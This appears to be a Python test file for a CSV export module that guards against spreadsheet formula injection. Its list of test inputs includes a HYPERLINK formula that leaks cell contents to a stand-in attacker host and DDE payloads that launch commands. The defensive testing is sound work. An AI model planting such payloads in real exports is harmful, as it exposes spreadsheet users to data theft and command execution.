"""CSV formula injection (issue 17.5): every CSV the app writes goes through core.csvexport,
which neutralises a text cell a spreadsheet would run, and leaves our numbers alone."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from core import csvexport
from core.csvexport import Number

ROOT = Path(__file__).resolve().parents[3]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1;"Voir")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _write(row) -> list[str]:
    out = io.StringIO()
    csvexport.writer(out, delimiter=";").writerow(row)
    return next(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))


@pytest.mark.parametrize("text", ATTACKS)
def test_a_text_cell_that_a_spreadsheet_would_run_is_written_as_text(text):
    [written] = _write([text])
    assert written == "'" + text
    assert csvexport.unescape(written) == text


def test_numbers_we_write_keep_their_sign_and_plain_text_is_unchanged():
    row = [-1250, Decimal("-12.50"), Number("-12,50"), Number(-3), "Tomates", "", None, "l'été"]
    assert _write(row) == ["-1250", "-12.50", "-12,50", "-3", "Tomates", "", "", "l'été"]


def test_unescape_leaves_other_apostrophes_alone():
    assert csvexport.unescape("'Tomates'") == "'Tomates'"
    assert csvexport.unescape("'") == "'"
    assert csvexport.unescape("") == ""


def test_writerows_neutralises_every_row():
    out = io.StringIO()
    csvexport.writer(out, lineterminator="\n").writerows([["=1", "a"], ["b", "@x"]])
    assert out.getvalue() == "'=1,a\nb,'@x\n"


def _writes_csv_directly(path: Path) -> list[int]:
    """Lines where ``csv.writer``/``csv.DictWriter`` is called (``import csv`` or from-import)."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    lines = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
            if isinstance(node.value, ast.Name) and node.value.id == "csv":
                lines.append(node.lineno)
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            if any(alias.name in ("writer", "DictWriter") for alias in node.names):
                lines.append(node.lineno)
    return lines


def test_every_csv_writer_of_the_app_goes_through_core_csvexport():
    skip = {"tests", "scripts", "bench", "migrations", "node_modules"}
    offenders = []
    for path in ROOT.rglob("*.py"):
        parts = path.relative_to(ROOT).parts
        if parts[0].startswith(".") or parts[0] in skip:
            continue
        if path == ROOT / "core" / "csvexport.py":
            continue
        offenders += [f"{path.relative_to(ROOT)}:{n}" for n in _writes_csv_directly(path)]
    assert offenders == [], "write CSV with core.csvexport.writer()"


def test_columns_are_written_like_rows():
    out = io.StringIO()
    writer = csvexport.writer(out, lineterminator="\n")
    writer.writecolumns([["=A", "Zoë", "=A"], [Number("-1,50"), Number("2,00"), Number("-1,50")]])
    assert out.getvalue() == '\'=A,"-1,50"\nZoë,"2,00"\n\'=A,"-1,50"\n'
    assert csvexport.unescape_row(["'=A", "'Zoë", "-1"]) == ["=A", "'Zoë", "-1"]
